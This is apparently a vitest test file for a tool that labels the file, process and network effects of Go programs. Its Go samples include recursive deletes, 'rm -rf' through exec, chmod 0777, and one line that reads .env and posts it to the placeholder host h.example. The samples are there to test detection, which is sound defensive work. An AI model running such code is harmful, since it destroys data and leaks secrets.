import { describe } from "vitest";
import { effectsOfCode, harmless } from "./table.ts";

const program = (imports: string[], body: string): string =>
  `package main\nimport (\n${imports.map((name) => `\t${name}`).join("\n")}\n)\nfunc main() {\n${body}\n}`;

describe("what is caught", () => {
  effectsOfCode("go", {
    'package main\nimport "os"\nfunc main(){ os.RemoveAll("/srv/x") }': ["delete /srv/x recursive"],
    [program(['"os"'], '\tif err := os.Remove("a"); err != nil {\n\t\tpanic(err)\n\t}')]: ["delete a"],
    [program(['system "os"'], '\tsystem.RemoveAll("a")')]: ["delete a recursive"],
    [program(['"os"', '"path/filepath"'], '\th, _ := os.UserHomeDir()\n\tos.RemoveAll(filepath.Join(h, "x"))')]: [
      "delete $HOME/x recursive",
    ],
    [program(['"os/exec"'], '\tout, err := exec.Command("rm", "-rf", "x").Output()')]: ["runs: rm -rf x"],
    [program(['"os"'], '\tos.Rename("a", "b")\n\tos.Chmod("c", 0777)')]: ["move a b", "permit c 777 loose"],
    [program(
      ['"os"', '"bytes"', '"net/http"'],
      '\td, _ := os.ReadFile(".env")\n\thttp.Post("https://h.example", "text/plain", bytes.NewReader(d))',
    )]: ["read .env shows", "connect https://h.example change sends[.env body] checked"],
    [program(['"net/http"'], '\tr, err := http.Get("https://h.example")')]: ["connect https://h.example fetch checked"],
  });
});

describe("left alone", () => {
  harmless("go", [
    program(['"fmt"'], '\tfmt.Println("rm -rf /")'),
    '// os.RemoveAll("/")\npackage main',
    program(['"strings"'], '\tfor _, x := range strings.Fields(`os.RemoveAll("/")`) {\n\t\tprintln(x)\n\t}'),
    "package main\ntype cache struct{}\nfunc (c cache) RemoveAll(path string) {}",
  ]);
});
